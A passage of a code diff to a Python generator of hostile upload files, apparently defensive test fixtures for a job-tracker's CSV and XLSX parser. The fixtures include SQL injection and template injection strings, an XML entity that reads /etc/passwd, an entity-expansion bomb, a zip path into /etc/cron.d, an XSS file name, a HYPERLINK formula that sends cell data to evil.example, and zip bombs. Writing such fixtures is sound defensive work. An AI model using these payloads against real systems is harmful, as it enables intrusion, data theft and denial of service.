@@ -10,8 +10,10 @@ import random
 import struct
 import tarfile
 import zipfile
+import zlib
 from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass
+from functools import partial
 
 import xlsxwriter
 
@@ -79,7 +81,7 @@ def _file(
     is_quick: bool = True,
 ) -> HostileFile:
     def make() -> bytes:
-        made = content() if callable(content) else content
+        made = content if isinstance(content, bytes | str) else content()
         return made.encode() if isinstance(made, str) else made
 
     return HostileFile(kind=kind, what=what, make=make, rows=rows, file_name=name, is_quick=is_quick)
@@ -119,7 +121,9 @@ def _nothing() -> Iterator[HostileFile]:
         yield _file("B3", f"2,000 {what}", sign * 2_000, 0)
         under = f"Company,Role,Status\n{sign * 60_000}\nAcme,Chef,Offer\n"
         yield _file("B3", f"60,000 {what} under a header", under)
-        yield _file("B3", f"10 MB of {what}", lambda sign=sign: sign * (10 * MB // len(sign)), 0, is_quick=False)
+        yield _file(
+            "B3", f"10 MB of {what}", lambda sign=sign: sign * (10 * MB // len(sign)), 0, is_quick=False
+        )
 
 
 def _bytes_and_encodings() -> Iterator[HostileFile]:
@@ -140,7 +144,9 @@ def _bytes_and_encodings() -> Iterator[HostileFile]:
         "iso-8859-8": "שלום חברה",
     }
     for encoding, word in words.items():
-        yield _file("B5", f"in {encoding}", table().replace("Acme", word).encode(encoding), None if "," in word else 5)
+        yield _file(
+            "B5", f"in {encoding}", table().replace("Acme", word).encode(encoding), None if "," in word else 5
+        )
     for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-8-sig"):
         yield _file("B6", f"in {encoding}", good.encode(encoding), 5)
     yield _file("B6", "UTF-16 cut in a letter", good.encode("utf-16")[:-1], 5)
@@ -157,13 +163,19 @@ def _bytes_and_encodings() -> Iterator[HostileFile]:
         "every byte": bytes(range(128, 256)),
     }.items():
         yield _file("B7", f"invalid: {what}", good.encode().replace(b"Acme 2", b"Acme " + bad), 5)
+    head = f"{HEADER}\n".encode()
     for size, is_quick in ((2_000, True), (100_000, True), (40 * MB, False)):
-        made = lambda size=size: random.Random(size).randbytes(size)
+        made = partial(_noise, size)
         yield _file("B7", f"{size:,} random bytes", made, is_quick=is_quick)
-        under = lambda made=made: (HEADER + "\n").encode() + made().replace(b"\0", b"")
+        under = partial(_noise, size, head=head)
         yield _file("B7", f"{size:,} random bytes under a header", under, is_quick=is_quick)
-    high = lambda: (HEADER + "\n").encode() + bytes(random.Random(7).choices(range(128, 256), k=20 * MB))
+    high = partial(_noise, 20 * MB, head=head, letters=bytes(range(128, 256)))
     yield _file("B7", "20 MB of high bytes", high, is_quick=False)
+
+
+def _noise(size: int, *, head: bytes = b"", letters: bytes | None = None) -> bytes:
+    chance = random.Random(size)
+    return head + (chance.randbytes(size) if letters is None else bytes(chance.choices(letters, k=size)))
 
 
 def _shapes() -> Iterator[HostileFile]:
@@ -173,20 +185,49 @@ def _shapes() -> Iterator[HostileFile]:
     yield _file("B8", "a row of 16,000 cells", good + "Acme" + ",x" * 16_000 + "\n", 6)
     yield _file("B8", "a row of 20,000 cells", good + "Acme" + ",x" * 20_000 + "\n", 6)
     yield _file("B8", "a row of 20 MB of commas", lambda: good + "," * 20 * MB + "\n", is_quick=False)
-    yield _file("B8", "every row of 400 cells", lambda: good + ("Acme,Chef" + ",x" * 400 + "\n") * 20_000, 20_005, is_quick=False)
+    yield _file(
+        "B8",
+        "every row of 400 cells",
+        lambda: good + ("Acme,Chef" + ",x" * 400 + "\n") * 20_000,
+        20_005,
+        is_quick=False,
+    )
     yield _file("B9", "rows of one cell", HEADER + "\n" + "Acme\n" * 50, 50)
-    yield _file("B9", "rows of every width", HEADER + "\n" + "".join("Acme" + ",x" * (n % 9) + "\n" for n in range(300)), 300)
-    yield _file("B9", "300,000 rows of one cell", lambda: HEADER + "\n" + "Acme\n" * 300_000, 300_000, is_quick=False)
+    yield _file(
+        "B9",
+        "rows of every width",
+        HEADER + "\n" + "".join("Acme" + ",x" * (n % 9) + "\n" for n in range(300)),
+        300,
+    )
+    yield _file(
+        "B9", "300,000 rows of one cell", lambda: HEADER + "\n" + "Acme\n" * 300_000, 300_000, is_quick=False
+    )
 
 
 def _quotes() -> Iterator[HostileFile]:
     good = table()
-    yield _file("B10", "a quote opened in the last row", good + 'Acme,Chef,2026-01-01,Offer,"never closed\n', 6)
-    yield _file("B10", "a quote opened in the first row", f'{HEADER}\nAcme,Chef,2026-01-01,Offer,"never closed\n' + good.partition("\n")[2], None)
+    yield _file(
+        "B10", "a quote opened in the last row", good + 'Acme,Chef,2026-01-01,Offer,"never closed\n', 6
+    )
+    yield _file(
+        "B10",
+        "a quote opened in the first row",
+        f'{HEADER}\nAcme,Chef,2026-01-01,Offer,"never closed\n' + good.partition("\n")[2],
+        None,
+    )
     yield _file("B10", "a quote opened in the header", '"' + good, None)
-    yield _file("B10", "a quote opened in every row", HEADER + "\n" + 'Acme,"Chef,2026-01-01,Offer,x\n' * 400, None)
-    yield _file("B11", "a stray quote in every row", HEADER + "\n" + 'Acme 5" pipes,Chef,2026-01-01,Offer,"He said "no", twice"\n' * 100, 100)
-    yield _file("B11", "quotes within quotes", HEADER + "\n" + 'Acme,Chef,2026-01-01,Offer,"""""""\n' * 60, None)
+    yield _file(
+        "B10", "a quote opened in every row", HEADER + "\n" + 'Acme,"Chef,2026-01-01,Offer,x\n' * 400, None
+    )
+    yield _file(
+        "B11",
+        "a stray quote in every row",
+        HEADER + "\n" + 'Acme 5" pipes,Chef,2026-01-01,Offer,"He said "no", twice"\n' * 100,
+        100,
+    )
+    yield _file(
+        "B11", "quotes within quotes", HEADER + "\n" + 'Acme,Chef,2026-01-01,Offer,"""""""\n' * 60, None
+    )
     # Many small traps: a reader that looks again from each of them needs the square of the time.
     for what, part in {
         "quotes": '"',
@@ -201,27 +242,51 @@ def _quotes() -> Iterator[HostileFile]:
         "opened cells that seem closed": '"a"b\n',
         "apostrophes": "','",
     }.items():
-        trap = lambda size, part=part: HEADER + "\n" + part * (size // len(part))
-        yield _file("B11", f"60 KB of {what}", lambda trap=trap: trap(60_000))
-        yield _file("B11", f"10 MB of {what}", lambda trap=trap: trap(10 * MB), is_quick=False)
+        few, large = 60_000 // len(part), 10 * MB // len(part)
+        yield _file("B11", f"60 KB of {what}", f"{HEADER}\n{part * few}")
+        yield _file(
+            "B11",
+            f"10 MB of {what}",
+            lambda part=part, large=large: f"{HEADER}\n{part * large}",
+            is_quick=False,
+        )
 
 
 def _line_ends_and_delimiters() -> Iterator[HostileFile]:
     for what, end in {"CR": "\r", "CRLF": "\r\n", "LF CR": "\n\r", "CR CR LF": "\r\r\n"}.items():
         yield _file("B12", f"{what} ends a line", table(end=end), 5)
-    yield _file("B12", "three line ends in turn", HEADER + "\n" + "".join(line(n, end=("\r", "\n", "\r\n")[n % 3]) for n in range(9)), 9)
-    for what, sign in {"U+2028": "\u2028", "NEL": "\u0085", "a vertical tab": "\v", "a file separator": "\x1c"}.items():
+    yield _file(
+        "B12",
+        "three line ends in turn",
+        HEADER + "\n" + "".join(line(n, end=("\r", "\n", "\r\n")[n % 3]) for n in range(9)),
+        9,
+    )
+    for what, sign in {
+        "U+2028": "\u2028",
+        "NEL": "\u0085",
+        "a vertical tab": "\v",
+        "a file separator": "\x1c",
+    }.items():
         yield _file("B12", f"{what} within cells", table().replace("prepared", f"pre{sign}pared"), 5)
     plain = table().replace(SAID, "Fine")
     for sign in ";\t|:^\x01":
-        yield _file("B13", f"{sign!r} sets cells apart", plain.replace(",", sign), 5 if sign in ";\t|" else None)
+        yield _file(
+            "B13", f"{sign!r} sets cells apart", plain.replace(",", sign), 5 if sign in ";\t|" else None
+        )
         named = f"sep={sign}\n" + plain.replace(",", sign)
         yield _file("B13", f"sep={sign!r} is said", named, None if sign == "\x01" else 5)
     yield _file("B13", "sep= a quote", 'sep="\n' + plain)
     yield _file("B13", "sep= a letter", "sep=e\n" + plain)
     yield _file("B13", "sep= nothing", "sep=\n" + plain)
     yield _file("B13", "sep= a space", "sep= \n" + plain)
-    yield _file("B13", "two signs in turn", "".join(each.replace(",", ";") if n % 2 else each for n, each in enumerate(plain.splitlines(keepends=True))))
+    yield _file(
+        "B13",
+        "two signs in turn",
+        "".join(
+            each.replace(",", ";") if n % 2 else each
+            for n, each in enumerate(plain.splitlines(keepends=True))
+        ),
+    )
 
 
 def _headers() -> Iterator[HostileFile]:
@@ -230,11 +295,18 @@ def _headers() -> Iterator[HostileFile]:
     yield _file("B14", "all headers alike", "Company,Company,Company,Company,Company" + rows, 3)
     yield _file("B14", "all headers empty", ",,,," + rows)
     yield _file("B14", "some headers empty", "Company,,Date applied,,Feedback" + rows, 3)
-    yield _file("B14", "450 headers alike", ",".join(["Company"] * 450) + ("\nAcme" + ",x" * 449) * 3 + "\n", 3)
-    yield _file("B14", "450 feedback columns", "Company,Role" + ",Feedback" * 448 + ("\nAcme,Chef" + ",be clear" * 448) * 3 + "\n", 3)
+    yield _file(
+        "B14", "450 headers alike", ",".join(["Company"] * 450) + ("\nAcme" + ",x" * 449) * 3 + "\n", 3
+    )
+    yield _file(
+        "B14",
+        "450 feedback columns",
+        "Company,Role" + ",Feedback" * 448 + ("\nAcme,Chef" + ",be clear" * 448) * 3 + "\n",
+        3,
+    )
     for what, header in {
         "DROP TABLE": '"x""); DROP TABLE interviews; --"',
-        "a closing quote": "\"'; DELETE FROM feedback; --\"",
+        "a closing quote": '"\'; DELETE FROM feedback; --"',
         "a placeholder": "$company",
         "a format": "{0.__class__.__init__.__globals__}",
         "a template": "{{ 7*7 }}",
@@ -245,21 +317,49 @@ def _headers() -> Iterator[HostileFile]:
         "a line end": '"Sta\ntus"',
         "percent signs": "%s%n%d",
     }.items():
-        yield _file("B15", f"header: {what}", f"Company,Role,Date applied,Status,Feedback,{header}" + f"\n{row},own" * 3 + "\n", 3)
+        yield _file(
+            "B15",
+            f"header: {what}",
+            f"Company,Role,Date applied,Status,Feedback,{header}" + f"\n{row},own" * 3 + "\n",
+            3,
+        )
     yield _file("B16", "a header of 200 KB", f"Company,Role,Date applied,Status,{'H' * 200_000}" + rows, 3)
-    yield _file("B16", "a header of 40 MB", lambda: f"Company,Role,Date applied,Status,{'H' * 40 * MB}" + rows, is_quick=False)
-    yield _file("B16", "400 headers of 10 KB", lambda: "Company,Status," + ",".join("H" * 10_000 + str(n) for n in range(400)) + rows, 3)
-    yield _file("B16", "a header of 100,000 lines", lambda: 'Company,Status,"' + "x\n" * 100_000 + '"' + rows, is_quick=False)
-    yield _file("B16", "a header of 200 KB of digits", lambda: f"Company,Role,Date applied,Status,{'1' * 200_000}" + rows)
-    yield _file("B16", "a header of 200 KB of signs", lambda: f"Company,Role,Date applied,Status,{'.-/' * 70_000}" + rows)
+    yield _file(
+        "B16",
+        "a header of 40 MB",
+        lambda: f"Company,Role,Date applied,Status,{'H' * 40 * MB}" + rows,
+        is_quick=False,
+    )
+    yield _file(
+        "B16",
+        "400 headers of 10 KB",
+        lambda: "Company,Status," + ",".join("H" * 10_000 + str(n) for n in range(400)) + rows,
+        3,
+    )
+    yield _file(
+        "B16",
+        "a header of 100,000 lines",
+        lambda: 'Company,Status,"' + "x\n" * 100_000 + '"' + rows,
+        is_quick=False,
+    )
+    yield _file(
+        "B16",
+        "a header of 200 KB of digits",
+        lambda: f"Company,Role,Date applied,Status,{'1' * 200_000}" + rows,
+    )
+    yield _file(
+        "B16",
+        "a header of 200 KB of signs",
+        lambda: f"Company,Role,Date applied,Status,{'.-/' * 70_000}" + rows,
+    )
     for what, header in {
         "zero width": "\u200bCompany\u200b,R\u200dole,Da\u2060te applied,Status\ufeff,Feedback",
         "two marks": "\ufeff\ufeff" + HEADER,
         "soft hyphens": "Com\u00adpany,Ro\u00adle,Date applied,Sta\u00adtus,Feedback",
-        "full width": "Ｃｏｍｐａｎｙ,Ｒｏｌｅ,Date applied,Ｓｔａｔｕｓ,Feedback",  # noqa: RUF001 - that is the trap
+        "full width": "Ｃｏｍｐａｎｙ,Ｒｏｌｅ,Date applied,Ｓｔａｔｕｓ,Feedback",
         "right to left": "\u202eCompany\u202c,Role,Date applied,Status,Feedback",
         "piled accents": "Company" + "\u0301" * 2_000 + ",Role,Date applied,Status,Feedback",
-        "look-alikes": "Сompаny,Rоle,Date applied,Status,Feedback",  # noqa: RUF001 - that is the trap
+        "look-alikes": "Сompаny,Rоle,Date applied,Status,Feedback",
     }.items():
         yield _file("B17", f"header: {what}", header + rows, 3)
 
@@ -285,14 +385,55 @@ def _words() -> Iterator[HostileFile]:
     }.items():
         yield _file("B18", f"a cell of {what}", lambda cell=cell: with_cell(cell), 5)
     cells = [cell for cell in CELLS if cell.strip("-")]
-    formulas = [cell for cell in cells if cell.lstrip(" \t\r\n\0\ufeff\u200b")[:1] in tuple("=+-@＝＋－＠")]  # noqa: RUF001
+    formulas = [cell for cell in cells if cell.lstrip(" \t\r\n\0\ufeff\u200b")[:1] in tuple("=+-@＝＋－＠")]
     yield _file("B19", "formulas in every column", lambda: _rows_of(formulas), len(formulas))
-    yield _file("B19", "20,000 formulas", lambda: _rows_of(formulas * (20_000 // len(formulas))), 20_000 // len(formulas) * len(formulas), is_quick=False)
+    yield _file(
+        "B19",
+        "20,000 formulas",
+        lambda: _rows_of(formulas * (20_000 // len(formulas))),
+        20_000 // len(formulas) * len(formulas),
+        is_quick=False,
+    )
     yield _file("B20", "every hostile cell in every column", lambda: _rows_of(cells), len(cells))
-    yield _file("B20", "20,000 hostile cells", lambda: _rows_of(cells * (20_000 // len(cells))), 20_000 // len(cells) * len(cells), is_quick=False)
-    empty = ["NA", "N/A", "None", "null", "NaN", "nil", "-", "#N/A", "#REF!", "undefined", "inf", "-inf", "true", "?"]
-    yield _file("B21", "words for nothing as feedback", lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,2026-01-01,Offer,{each}\n" for n, each in enumerate(empty)), len(empty))
-    yield _file("B21", "words for nothing as company", lambda: HEADER + "\n" + "".join(f"{each},Chef,2026-01-01,Offer,Fine\n" for each in empty), len(empty))
+    yield _file(
+        "B20",
+        "20,000 hostile cells",
+        lambda: _rows_of(cells * (20_000 // len(cells))),
+        20_000 // len(cells) * len(cells),
+        is_quick=False,
+    )
+    empty = [
+        "NA",
+        "N/A",
+        "None",
+        "null",
+        "NaN",
+        "nil",
+        "-",
+        "#N/A",
+        "#REF!",
+        "undefined",
+        "inf",
+        "-inf",
+        "true",
+        "?",
+    ]
+    yield _file(
+        "B21",
+        "words for nothing as feedback",
+        lambda: (
+            HEADER
+            + "\n"
+            + "".join(f"Acme {n},Chef,2026-01-01,Offer,{each}\n" for n, each in enumerate(empty))
+        ),
+        len(empty),
+    )
+    yield _file(
+        "B21",
+        "words for nothing as company",
+        lambda: HEADER + "\n" + "".join(f"{each},Chef,2026-01-01,Offer,Fine\n" for each in empty),
+        len(empty),
+    )
 
 
 def _rows_of(cells: Iterable[str]) -> str:
@@ -310,18 +451,60 @@ def _dates_and_numbers() -> Iterator[HostileFile]:
         "0", "-1", "²/³/2026", "٣/٤/٢٠٢٦", "2026-W60-9", "2026-366", "24:61:61", "2026-01-01T99:99Z", "1/1/1", "yesterday",
         "29 Feb 2025", "2026-01-01+99:99", "１２/３/２０２６", "1" * 5_000, "1/" * 3_000, "31.31.31", "0x7e9", "1_0/1_0/2026",
     ]  # fmt: skip
-    yield _file("B22", "odd dates", lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,{each},Offer,Fine\n" for n, each in enumerate(dates)), len(dates))
-    yield _file("B22", "20,000 odd dates", lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,{dates[n % len(dates)]}{n % 97},Offer,Fine\n" for n in range(20_000)), 20_000, is_quick=False)
-    for what, number in {"1e999": "1e999", "a number of 5,000 digits": "9" * 5_000, "a minus": "-", "an odd digit": "²", "a negative": "-4"}.items():
-        yield _file("B22", f"rounds: {what}", f"{HEADER},Rounds\n" + f"Acme,Chef,2026-01-01,Offer,Fine,{number}\n" * 3, None)
-    yield _file("B22", "as many outcome words as rows", lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,2026-01-01,word{n},Fine\n" for n in range(2_000)), 2_000)
-    yield _file("B22", "50,000 outcome words", lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,2026-01-01,word{n},Fine\n" for n in range(50_000)), 50_000, is_quick=False)
+    yield _file(
+        "B22",
+        "odd dates",
+        lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,{each},Offer,Fine\n" for n, each in enumerate(dates)),
+        len(dates),
+    )
+    yield _file(
+        "B22",
+        "20,000 odd dates",
+        lambda: (
+            HEADER
+            + "\n"
+            + "".join(f"Acme {n},Chef,{dates[n % len(dates)]}{n % 97},Offer,Fine\n" for n in range(20_000))
+        ),
+        20_000,
+        is_quick=False,
+    )
+    for what, number in {
+        "1e999": "1e999",
+        "a number of 5,000 digits": "9" * 5_000,
+        "a minus": "-",
+        "an odd digit": "²",
+        "a negative": "-4",
+    }.items():
+        yield _file(
+            "B22",
+            f"rounds: {what}",
+            f"{HEADER},Rounds\n" + f"Acme,Chef,2026-01-01,Offer,Fine,{number}\n" * 3,
+            None,
+        )
+    yield _file(
+        "B22",
+        "as many outcome words as rows",
+        lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,2026-01-01,word{n},Fine\n" for n in range(2_000)),
+        2_000,
+    )
+    yield _file(
+        "B22",
+        "50,000 outcome words",
+        lambda: HEADER + "\n" + "".join(f"Acme {n},Chef,2026-01-01,word{n},Fine\n" for n in range(50_000)),
+        50_000,
+        is_quick=False,
+    )
 
 
 def _wide_and_long() -> Iterator[HostileFile]:
     def wide(columns: int, rows: int) -> str:
         extra = columns - 2
-        return "Company,Status" + "".join(f",c{n}" for n in range(extra)) + ("\nAcme,Offer" + ",x" * extra) * rows + "\n"
+        return (
+            "Company,Status"
+            + "".join(f",c{n}" for n in range(extra))
+            + ("\nAcme,Offer" + ",x" * extra) * rows
+            + "\n"
+        )
 
     for columns, rows in ((500, 3), (501, None), (10_000, None), (16_384, None), (17_000, None)):
         yield _file("B23", f"{columns:,} columns", lambda columns=columns: wide(columns, 3), rows)
@@ -332,13 +515,24 @@ def _wide_and_long() -> Iterator[HostileFile]:
     yield _file("B24", "a cell one above the limit", lambda: with_cell("a" * (MB + 1)), 5)
     yield _file("B24", "a cell of 49 MB", lambda: with_cell("a" * 49 * MB), 5, is_quick=False)
     yield _file("B24", "a cell of 49 MB of lines", lambda: with_cell("ab\n" * 16 * MB), 5, is_quick=False)
-    yield _file("B24", "45 cells of 1 MB", lambda: table() + "".join(f"Acme,Chef,2026-01-01,Offer,{'b ' * (MB // 2 - 1)}\n" for _ in range(45)), 50, is_quick=False)
+    yield _file(
+        "B24",
+        "45 cells of 1 MB",
+        lambda: table() + "".join(f"Acme,Chef,2026-01-01,Offer,{'b ' * (MB // 2 - 1)}\n" for _ in range(45)),
+        50,
+        is_quick=False,
+    )
     yield _file("B24", "a line of 49 MB", lambda: "a" * 49 * MB, is_quick=False)
     yield _file("B25", "one byte above 50 MB", lambda: b"a" * (50 * MB + 1))
     yield _file("B25", "100 MB", lambda: b"Company,Role\n" + b"Acme,Chef\n" * 10 * MB, is_quick=False)
     yield _file("B25", "25 million lines", lambda: b"a\n" * 25 * MB, is_quick=False)
     yield _file("B25", "1,000,100 rows", lambda: "Company,Status\n" + "A,Offer\n" * 1_000_100, is_quick=False)
-    yield _file("B25", "4 million blank lines and a row", lambda: "Company,Status\n" + "\n" * 4_000_000 + "A,Offer\n", is_quick=False)
+    yield _file(
+        "B25",
+        "4 million blank lines and a row",
+        lambda: "Company,Status\n" + "\n" * 4_000_000 + "A,Offer\n",
+        is_quick=False,
+    )
 
 
 def zipped(*members: tuple[str, bytes], way: int = zipfile.ZIP_DEFLATED) -> bytes:
@@ -379,22 +573,49 @@ def _archives() -> Iterator[HostileFile]:
     yield _file("B26", "zip in bzip2", zipped(("jobs.csv", good), way=zipfile.ZIP_BZIP2), 5)
     yield _file("B26", "zip in lzma", zipped(("jobs.csv", good), way=zipfile.ZIP_LZMA), 5)
     yield _file("B26", "zip cut", packed[:-30])
-    yield _file("B26", "zip with a wrong sum", packed.replace(struct.pack("<I", zipfile.crc32(good)), b"\1\2\3\4"))
+    yield _file(
+        "B26", "zip with a wrong sum", packed.replace(struct.pack("<I", zlib.crc32(good)), b"\1\2\3\4")
+    )
     yield _file("B26", "zip that says it is locked", _flagged(packed, 1))
     yield _file("B26", "zip by an unknown way", _way(packed, 97))
-    yield _file("B26", "zip in lzma with a dictionary of 4 GB", _large_dictionary(zipped(("jobs.csv", good), way=zipfile.ZIP_LZMA)))
-    yield _file("B26", "zip within zip within zip", zipped(("a.csv", zipped(("b.csv", zipped(("c.csv", good)))))))
+    yield _file(
+        "B26",
+        "zip in lzma with a dictionary of 4 GB",
+        _large_dictionary(zipped(("jobs.csv", good), way=zipfile.ZIP_LZMA)),
+    )
+    yield _file(
+        "B26", "zip within zip within zip", zipped(("a.csv", zipped(("b.csv", zipped(("c.csv", good))))))
+    )
     yield _file("B26", "zip that climbs", zipped(("../../../../etc/cron.d/jobs.csv", good)), 5)
     yield _file("B26", "zip with a folder named as a file", zipped(("jobs.csv/", b"")))
     yield _file("B26", "zip with a name of markup", zipped(("<img src=x onerror=alert(1)>.csv", good)), 5)
     yield _file("B26", "zip of no file", zipped())
-    yield _file("B26", "zip of 3,000 files", lambda: zipped(*((f"{n}.csv", b"Company\nA\n") for n in range(3_000))))
-    yield _file("B26", "zip of 1,900 tables", lambda: zipped(*((f"{n}.csv", good * 100) for n in range(1_900))), is_quick=False)
-    yield _file("B26", "zip of 1 GB of NUL", lambda: streamed_zip(("jobs.csv", _zeros(1_000))), is_quick=False)
-    yield _file("B26", "zip of 1 GB of rows", lambda: streamed_zip(("jobs.csv", [b"Company,Status\n", *_zeros(1_000, b"Acme,Offer\n")])), is_quick=False)
+    yield _file(
+        "B26", "zip of 3,000 files", lambda: zipped(*((f"{n}.csv", b"Company\nA\n") for n in range(3_000)))
+    )
+    yield _file(
+        "B26",
+        "zip of 1,900 tables",
+        lambda: zipped(*((f"{n}.csv", good * 100) for n in range(1_900))),
+        is_quick=False,
+    )
+    yield _file(
+        "B26", "zip of 1 GB of NUL", lambda: streamed_zip(("jobs.csv", _zeros(1_000))), is_quick=False
+    )
+    yield _file(
+        "B26",
+        "zip of 1 GB of rows",
+        lambda: streamed_zip(("jobs.csv", [b"Company,Status\n", *_zeros(1_000, b"Acme,Offer\n")])),
+        is_quick=False,
+    )
     yield _file("B26", "zip of 48 MB of commas", lambda: zipped(("jobs.csv", b"," * 48 * MB)), is_quick=False)
     yield _file("B26", "zip of 48 MB of quotes", lambda: zipped(("jobs.csv", b'"' * 48 * MB)), is_quick=False)
-    yield _file("B26", "zip of 100 tables of 48 MB", lambda: streamed_zip(*((f"{n}.csv", _zeros(48, b"a")) for n in range(100))), is_quick=False)
+    yield _file(
+        "B26",
+        "zip of 100 tables of 48 MB",
+        lambda: streamed_zip(*((f"{n}.csv", _zeros(48, b"a")) for n in range(100))),
+        is_quick=False,
+    )
     yield _file("B26", "tar", _tar(good), name="jobs.tar")
 
 
@@ -424,7 +645,9 @@ def _patched(packed: bytes, *, local: tuple[int, bytes], central: tuple[int, byt
 
 def _large_dictionary(packed: bytes) -> bytes:
     out = bytearray(packed)
-    at = packed.find(b"jobs.csv") + len("jobs.csv")  # the data: version (2), size of properties (2), properties (5)
+    at = packed.find(b"jobs.csv") + len(
+        "jobs.csv"
+    )  # the data: version (2), size of properties (2), properties (5)
     out[at + 5 : at + 9] = b"\xff\xff\xff\xff"
     return bytes(out)
 
@@ -513,7 +736,10 @@ def _titles(*more: bytes) -> list[bytes]:
 def _a_row(n: int, text: str = "Acme") -> bytes:
     return (
         f'<row r="{n}">'.encode()
-        + b"".join(_inline(f"{c}{n}", t) for c, t in zip("ABCDE", (text, "Chef", "2026-01-01", "Offer", "Fine"), strict=True))
+        + b"".join(
+            _inline(f"{c}{n}", t)
+            for c, t in zip("ABCDE", (text, "Chef", "2026-01-01", "Offer", "Fine"), strict=True)
+        )
         + b"</row>"
     )
 
@@ -540,7 +766,7 @@ def _formulas() -> bytes:
         sheet = book.add_worksheet()
         sheet.write_row(0, 0, HEADER.split(","))
         for n in range(1, 6):
-            sheet.write_formula(n, 0, "=HYPERLINK(\"http://evil.example/\"&A1)", None, f"Acme {n}")
+            sheet.write_formula(n, 0, '=HYPERLINK("http://evil.example/"&A1)', None, f"Acme {n}")
             sheet.write_row(n, 1, ["Chef", "2026-01-01", "Offer"])
             sheet.write_url(n, 4, "http://evil.example/", string="Fine")
 
@@ -548,40 +774,113 @@ def _formulas() -> bytes:
 
 
 def _workbooks() -> Iterator[HostileFile]:
-    def book(what: str, make: Callable[[], bytes], rows: int | None = None, *, is_quick: bool = True) -> HostileFile:
+    def book(
+        what: str, make: Callable[[], bytes], rows: int | None = None, *, is_quick: bool = True
+    ) -> HostileFile:
         return _file("B28", f"xlsx: {what}", make, rows, name="jobs.xlsx", is_quick=is_quick)
 
     good = raw_book(_titles(*map(_a_row, range(2, 7))))
     laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
     reads = b'<!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/passwd">]>'
     yield book("named .csv", lambda: good, 5)
-    yield book("a far cell", lambda: raw_book(_titles(_a_row(2), b'<row r="1048576">', _inline("XFD1048576", "x"), b"</row>")))
+    yield book(
+        "a far cell",
+        lambda: raw_book(_titles(_a_row(2), b'<row r="1048576">', _inline("XFD1048576", "x"), b"</row>")),
+    )
     yield book("a far row", lambda: raw_book(_titles(_a_row(2), _a_row(1_048_576))), 2)
-    yield book("a far column", lambda: raw_book(_titles(b'<row r="2">', _inline("A2", "Acme"), _inline("XFD2", "x"), b"</row>")), 1)
-    yield book("a hundred columns and a far row", lambda: raw_book(_titles(b'<row r="2">', _inline("CV2", "x"), b"</row>", _a_row(1_048_576))), None)
-    yield book("thirty columns and a far row", lambda: raw_book(_titles(b'<row r="2">', _inline("AD2", "x"), b"</row>", _a_row(1_048_576))), None)
-    yield book("a cell beyond the sheet", lambda: raw_book(_titles(b'<row r="2">', _inline("ZZZZ99999999", "x"), b"</row>")))
+    yield book(
+        "a far column",
+        lambda: raw_book(_titles(b'<row r="2">', _inline("A2", "Acme"), _inline("XFD2", "x"), b"</row>")),
+        1,
+    )
+    yield book(
+        "a hundred columns and a far row",
+        lambda: raw_book(_titles(b'<row r="2">', _inline("CV2", "x"), b"</row>", _a_row(1_048_576))),
+        None,
+    )
+    yield book(
+        "thirty columns and a far row",
+        lambda: raw_book(_titles(b'<row r="2">', _inline("AD2", "x"), b"</row>", _a_row(1_048_576))),
+        None,
+    )
+    yield book(
+        "a cell beyond the sheet",
+        lambda: raw_book(_titles(b'<row r="2">', _inline("ZZZZ99999999", "x"), b"</row>")),
+    )
     yield book("a cell at row 0", lambda: raw_book(_titles(b'<row r="0">', _inline("A0", "x"), b"</row>")))
-    yield book("cells without a place", lambda: raw_book([b'<row><c t="inlineStr"><is><t>Company</t></is></c></row>'] * 3))
+    yield book(
+        "cells without a place",
+        lambda: raw_book([b'<row><c t="inlineStr"><is><t>Company</t></is></c></row>'] * 3),
+    )
     yield book("entities that laugh", lambda: raw_book(_titles(_a_row(2, "&c;" * 50)), prolog=laughs))
     yield book("an entity that reads a file", lambda: raw_book(_titles(_a_row(2, "&c;")), prolog=reads))
-    yield book("a string that is not there", lambda: raw_book(_titles(b'<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')))
-    yield book("a number of 5,000 digits", lambda: raw_book(_titles(b'<row r="2"><c r="A2"><v>' + b"9" * 5_000 + b"</v></c></row>")))
-    yield book("a date of 1e300", lambda: raw_book(_titles(b'<row r="2"><c r="A2" t="d"><v>99999-99-99</v></c><c r="B2"><v>1e300</v></c></row>')))
+    yield book(
+        "a string that is not there",
+        lambda: raw_book(_titles(b'<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')),
+    )
+    yield book(
+        "a number of 5,000 digits",
+        lambda: raw_book(_titles(b'<row r="2"><c r="A2"><v>' + b"9" * 5_000 + b"</v></c></row>")),
+    )
+    yield book(
+        "a date of 1e300",
+        lambda: raw_book(
+            _titles(b'<row r="2"><c r="A2" t="d"><v>99999-99-99</v></c><c r="B2"><v>1e300</v></c></row>')
+        ),
+    )
     yield book("cut", lambda: good[: len(good) // 2])
     yield book("with changed bytes", lambda: good[:400] + b"\xff" * 40 + good[440:])
-    yield book("no sheet", lambda: zipped(("[Content_Types].xml", _TYPES), ("xl/workbook.xml", b"<workbook/>")))
+    yield book(
+        "no sheet", lambda: zipped(("[Content_Types].xml", _TYPES), ("xl/workbook.xml", b"<workbook/>"))
+    )
     yield book("formulas and links", _formulas, 5)
     yield book("200 sheets", lambda: _many_sheets(200), is_quick=False)
     yield book("20,000 merged columns", lambda: _merged(20_000), is_quick=False)
-    yield book("500 MB of blank rows", lambda: raw_book(_titles(*_zeros(500, b"<row></row>"))), is_quick=False)
-    yield book("190 MB in one string", lambda: raw_book(_titles(b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>'), [b"<si><t>", *_zeros(190, b"a"), b"</t></si>"]), is_quick=False)
-    yield book("190 MB of short strings", lambda: raw_book(_titles(_a_row(2)), _zeros(190, b"<si><t>a</t></si>")), is_quick=False)
-    yield book("190 MB of one string used", lambda: raw_book(_titles(*_zeros(190, b'<row><c t="s"><v>0</v></c></row>')), [b"<si><t>Acme</t></si>"]), is_quick=False)
+    yield book(
